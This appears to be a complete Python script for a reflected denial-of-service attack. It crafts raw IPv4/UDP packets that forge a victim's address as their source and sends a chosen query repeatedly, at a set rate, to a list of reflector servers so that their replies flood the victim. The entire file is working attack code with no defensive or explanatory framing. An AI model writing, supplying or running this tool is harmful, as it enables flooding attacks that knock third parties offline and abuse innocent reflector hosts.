"""Asks reflectors one question over and over, with somebody else's address as the source: raw IPv4 and UDP."""
import random
import socket
import struct
import sys
import time


def checksum(octets: bytes) -> int:
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source: str, target: str, ports: tuple[int, int], payload: bytes) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    length = 8 + len(payload)
    head = struct.pack("!HHHH", *ports, length, 0)
    check = checksum(ends + struct.pack("!BBH", 0, 17, length) + head + payload) or 0xFFFF
    # The kernel fills in total length and header checksum (raw(7)).
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, random.randrange(65536), 0, 64, 17, 0) + ends
    return ip + struct.pack("!HHHH", *ports, length, check) + payload


def main() -> None:
    victim, port, question, rate, count, *reflectors = sys.argv[1:]
    payload = bytes.fromhex(question)
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    began = time.monotonic()
    for number in range(int(count)):
        target = random.choice(reflectors)
        wire.sendto(datagram(victim, target, (random.randrange(1024, 65535), int(port)), payload), (target, 0))
        ahead = (number + 1) / int(rate) - (time.monotonic() - began)
        if ahead > 0:
            time.sleep(ahead)
    print("asked", count)


main()
